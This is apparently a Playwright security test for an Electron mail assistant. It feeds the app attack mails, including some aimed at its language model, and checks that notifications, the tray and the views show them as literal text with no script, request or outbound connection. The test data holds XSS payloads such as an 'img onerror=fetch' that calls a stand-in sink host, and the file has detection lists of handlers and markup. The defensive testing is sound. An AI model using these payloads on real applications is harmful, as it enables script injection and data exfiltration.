import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { expect, test } from 'playwright/test';
import type { SessionView } from '../../shared/ipc/views';
import { attacksOf } from '../attacks/attack-index';
import { ALLOWED, AUTHSERV_ID, USER, attackMails, contextMail, type MailToPlay } from '../attacks/attack-mails';
import { llmReplies } from '../attacks/models/llm-replies';
import { obedient } from '../attacks/models/obedient';
import { ProfileDatabase } from '../support/attack-database';
import { startAttackModel, type AttackModel } from '../support/attack-model';
import { startDesktop, type TestDesktop } from '../support/desktop.mjs';
import { startDovecot, type TestDovecot } from '../support/dovecot';
import { PASSPHRASE, makeGenie, type Genie } from '../support/genie';
import { launchApp, type LaunchedApp } from '../support/launch-app.mjs';

const LIMIT_MS = 400_000;
const PASSWORD = 'correct-horse-battery';
/** Their mails come while the app runs, so that notification and tray speak of them too. */
const ANSWERS = ['L05', 'L13'];
const NOTIFIED = ['H21', 'H26', 'H27'];
const OPENED = attacksOf('html-mail')
  .map(({ id }) => id)
  .concat('P04', ...ANSWERS);

/** What leaves the window or runs in it, counted in the page and in the main process. */
type Escapes = { requests: string[]; windows: number; navigations: string[]; downloads: number };
type MainProcess = { connections: string[]; opened: string[]; asked: number };
type Connect = (this: unknown, ...args: unknown[]) => unknown;
type Watched = { attackNotes: MainProcess };

let desktop: TestDesktop;
let dovecot: TestDovecot;
let model: AttackModel;
let genie: Genie;
let launched: LaunchedApp;
let page: Page;
let database: ProfileDatabase;
const mails = [...attackMails(OPENED), ...ANSWERS.map(contextMail)];
const views = new Map<string, SessionView>();
const escapes: Escapes = { requests: [], windows: 0, navigations: [], downloads: 0 };

test.describe.configure({ mode: 'serial', timeout: LIMIT_MS });

test.beforeAll(async () => {
  test.setTimeout(LIMIT_MS);
  const first = mails.filter(({ id }) => !NOTIFIED.includes(id) && id !== 'L05');
  desktop = await startDesktop();
  dovecot = await startDovecot({ users: { [USER]: PASSWORD } });
  genie = makeGenie();
  model = await startAttackModel((request) => {
    const messageId = database.mailOfTrace(request.traceId);
    const mail = mails.find((one) => one.messageId === messageId);
    if (mail === undefined) throw new Error(`The model was asked about a mail nobody knows: ${messageId}.`);
    const answer = attacksOf('llm-content').find(({ id }) => id === mail.id);
    return (answer && llmReplies(answer, 'mail.search')[0]?.reply) ?? obedient.answer(mail, request, null);
  });
  await setUp();
  database = await ProfileDatabase.open(genie);
  first.forEach(deliver);
  await genie.json(['sync', '--once']);

  launched = await launchApp({
    profile: genie.profile,
    args: ['--hidden'],
    env: { GENIE_SECRETS: 'passphrase', GENIE_PASSPHRASE: PASSPHRASE },
  });
  await desktop.activate();
  page = await launched.window();
  // Wide enough for the queue beside the request.
  await launched.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.setSize(1_150, 850));
  const idles = () => dovecot.commands(USER).filter((line) => line.startsWith('IDLE')).length;
  await expect.poll(idles).toBeGreaterThan(0);
  const before = idles();
  await watchMainProcess();
  watchPage();
  await expect(page.getByTestId('queue-row').first()).toBeVisible();
  await expect.poll(idles).toBeGreaterThan(before);
});

test.afterAll(async () => {
  await launched?.close();
  database.close();
  await genie.remove();
  await Promise.all([dovecot.stop(), model.close()]);
  desktop.close();
});

test('notification and tray show names, subjects and proposals as literal text (R4) (bars R4)', async () => {
  mails.filter(({ id }) => id === 'H26').forEach(deliver);
  const told = await desktop.notification((one) => one.summary.includes('svg/onload'), 60_000);
  // A long name is cut.
  expect(told.summary).toContain('<svg/onload=fetch(`http://sink.test/');
  expect(told.summary).toContain('<img src=x onerror=fetch(`http://sink.test/exec/H26`)>');
  const later = mails.filter(({ id }) => id !== 'H26' && (NOTIFIED.includes(id) || id === 'L05'));
  later.forEach(deliver);
  for (const { body } of desktop.notifications()) expect(body).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/);
  await expect
    .poll(async () => (await desktop.menu()).map(({ label }) => label).join('\n'), { timeout: 60_000 })
    .toContain('<img src=x onerror=');
  await expect.poll(() => sessionsByMail().size, { timeout: 60_000 }).toBeGreaterThanOrEqual(OPENED.length);
});

test('every mail and answer is opened: its text is literal, nothing of it is markup (R1, I2) (bars R1, A5)', async () => {
  for (const [id, sessionId] of sessionsByMail()) {
    await open(sessionId);
    const view = await genie.json<SessionView>(['show', sessionId]);
    views.set(id, view);
    await test.step(id, async () => {
      await expect(page.getByTestId('topic')).toHaveText(view.topic);
      const text = await page.getByRole('main').innerText();
      for (const line of firstLines(view.message.visibleText)) expect(flat(text)).toContain(flat(line));
      expect(await foreignMarkup()).toEqual([]);
    });
  }
  expect([...views.keys()].sort()).toEqual([...OPENED].sort());
});

test('what the model wrote is drawn as it is stored, with its marks (I7, A4) (bars A4)', async () => {
  await open(views.get('L05')?.id ?? '');
  const card = page.locator('[data-testid=action-card][data-kind=summarize_thread]').first();
  await expect(card).toContainText('<img src=x onerror=');
  await open(views.get('L13')?.id ?? '');
  await expect(page.locator('[data-testid=action-card] .marks li').first()).toBeVisible();
  const shown = await page.getByRole('main').innerText();
  expect(shown).not.toMatch(/[\u200b\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u);
  await open(views.get('P04')?.id ?? '');
  await expect(page.locator('.message .marks').first()).toBeVisible();
});

test('buttons stay on top of every mail and can be pressed with it open (H09, H14) (bars A4)', async () => {
  for (const id of ['H09', 'H14']) {
    await open(views.get(id)?.id ?? '');
    const button = page.getByTestId('approve').first();
    await button.scrollIntoViewIfNeeded();
    const isOnTop = await button.evaluate((element) => {
      const { x, y, width, height } = element.getBoundingClientRect();
      const top = document.elementFromPoint(x + width / 2, y + height / 2);
      return top !== null && element.contains(top);
    });
    expect(isOnTop).toBe(true);
    await button.click();
    await expect(page.locator('[data-testid=action-card][data-status=executed]').first()).toBeVisible();
  }
});

test('every link and word of every mail is clicked: nothing opens (I8, R1) (bars R1, E7)', async () => {
  for (const [id, view] of views) {
    await open(view.id);
    await test.step(id, async () => {
      // By handle: one that is open does not match any more, which would shift those after it.
      for (const fold of await page.locator('.message details:not([open]) > summary').elementHandles())
        await fold.click();
      const targets = page.locator('.message-text, .link-url, .links span, .links strong, .attachment-name');
      for (const target of await targets.all()) if (await target.isVisible()) await target.click({ force: true });
    });
  }
});

test('in all of this: no script, no request, no navigation, no window, no download, no program (I1, I2) (bars R1, E3, E4)', async () => {
  const inPage = await page.evaluate(() => ({
    scriptRan: '__pwned' in window,
    bridge: Object.keys((window as unknown as { genie: object }).genie),
    url: location.href,
  }));
  expect(inPage).toEqual({ scriptRan: false, bridge: ['call', 'on'], url: 'app://ui/index.html' });
  expect(escapes).toEqual({ requests: [], windows: 0, navigations: [], downloads: 0 });
  const main = await launched.app.evaluate(() => (globalThis as unknown as Watched).attackNotes);
  const configured = [`localhost:${dovecot.port}`, `127.0.0.1:${model.port}`];
  expect(main.connections.length).toBeGreaterThan(0);
  expect(main.connections.filter((target) => !configured.includes(target))).toEqual([]);
  expect(main).toMatchObject({ opened: [], asked: 0 });
  expect(launched.app.windows()).toHaveLength(1);
});

test('the watch over page and process sees what it is there for', async () => {
  await page.evaluate(() => {
    document.body.append(Object.assign(document.createElement('a'), { id: 'genie', href: 'http://sink.test/' }));
    new Image().src = 'http://sink.test/net/probe';
  });
  await expect.poll(() => escapes.requests.length).toBeGreaterThan(0);
  expect(await foreignMarkup()).not.toEqual([]);
  await launched.app.evaluate(() => {
    process
      .getBuiltinModule('node:net')
      .connect(1, '127.0.0.1')
      .on('error', () => undefined);
  });
  const main = await launched.app.evaluate(() => (globalThis as unknown as Watched).attackNotes);
  expect(main.connections).toContain('127.0.0.1:1');
});

async function setUp(): Promise<void> {
  const ca = join(genie.temporary, 'ca.pem');
  writeFileSync(ca, dovecot.caPem);
  const server = ['--host', 'localhost', '--port', String(dovecot.port), '--security', 'tls', '--ca', ca];
  const who = ['--user', USER, '--password-stdin', '--authserv-id', AUTHSERV_ID];
  const allowed = ALLOWED.flatMap((address) => ['--allow', address]);
  await genie.json(['accounts', 'add', '--kind', 'imap', ...server, ...who, ...allowed], { stdin: PASSWORD });
  await genie.json(['model', 'set', '--base-url', model.baseUrl, '--model', 'attack-model', '--key-stdin'], {
    stdin: '',
  });
}

function deliver({ source }: MailToPlay): void {
  dovecot.deliver(USER, Buffer.from(source, 'latin1').toString('utf8'));
}

/** As a notification does: the queue itself holds only the rows that are in sight. */
async function open(sessionId: string): Promise<void> {
  await launched.app.evaluate(({ BrowserWindow }, id) => {
    const payload = { to: 'review', item: { type: 'session', id } };
    BrowserWindow.getAllWindows()[0]?.webContents.send('genie:app.navigate', payload);
  }, sessionId);
  await expect(page.locator(`[data-testid=detail][data-id="${sessionId}"]`).getByTestId('topic')).toBeVisible();
}

/** Elements that only a mail or an answer could have made. */
function foreignMarkup(): Promise<string[]> {
  return page.evaluate(() => {
    const made =
      'iframe, object, embed, webview, portal, base, form[action], a[href], img:not([src^="data:"]), math, link:not([rel=stylesheet]), style:not([data-app]), audio, video, marquee, map';
    const named = ['genie', 'genieApi', 'location', 'getElementById', 'attributes', 'nodeName', '__proto__'];
    const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle'];
    return [
      ...[...document.body.querySelectorAll(made)].map((one) => one.outerHTML.slice(0, 100)),
      ...named.filter((name) => document.getElementById(name) !== null || document.getElementsByName(name).length > 0),
      ...handlers.filter((name) => document.body.querySelector(`[${name}]`) !== null),
      ...[...document.body.querySelectorAll('script')].map((one) => one.outerHTML.slice(0, 100)),
    ];
  });
}

function watchPage(): void {
  page.on('request', (request) => {
    if (!request.url().startsWith('app://ui/')) escapes.requests.push(request.url());
  });
  page.on('framenavigated', (frame) => escapes.navigations.push(frame.url()));
  page.on('popup', () => (escapes.windows += 1));
  page.on('download', () => (escapes.downloads += 1));
}

/** Counts connections, dialogs and programs that are started, in Electron's own process. */
async function watchMainProcess(): Promise<void> {
  await launched.app.evaluate(({ dialog, shell }) => {
    const notes: MainProcess = { connections: [], opened: [], asked: 0 };
    (globalThis as unknown as Watched).attackNotes = notes;
    shell.openExternal = (url) => {
      notes.opened.push(url);
      return Promise.resolve();
    };
    dialog.showMessageBox = () => {
      notes.asked += 1;
      return Promise.resolve({ response: 1, checkboxChecked: false });
    };
    const socket = process.getBuiltinModule('node:net').Socket.prototype as unknown as Record<'connect', Connect>;
    const connect = socket.connect;
    socket.connect = function (this: unknown, ...args: unknown[]) {
      const [first] = args;
      const options = (Array.isArray(first) ? first[0] : first) as { host?: string; port?: number; path?: string };
      if (options.path === undefined) notes.connections.push(`${options.host ?? 'localhost'}:${options.port}`);
      return connect.apply(this, args);
    };
  });
  // The connections of the account are open already; a look makes new ones.
  dovecot.kick(USER);
}

/** The session of each mail that has its answer, by the id of the attack. */
function sessionsByMail(): Map<string, string> {
  const answered = database.rows().sessions.filter(({ status }) => status !== 'proposing');
  return new Map(
    mails.flatMap(({ id, messageId }) => {
      const session = answered.find(({ mail }) => mail === messageId);
      return session === undefined ? [] : [[id, session.id]];
    }),
  );
}

/** The first words of a text, line by line; a long mail is cut in the window until it is unfolded. */
function firstLines(text: string): string[] {
  return text.slice(0, 200).split('\n').slice(0, 3).slice(0, -1);
}

function flat(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}
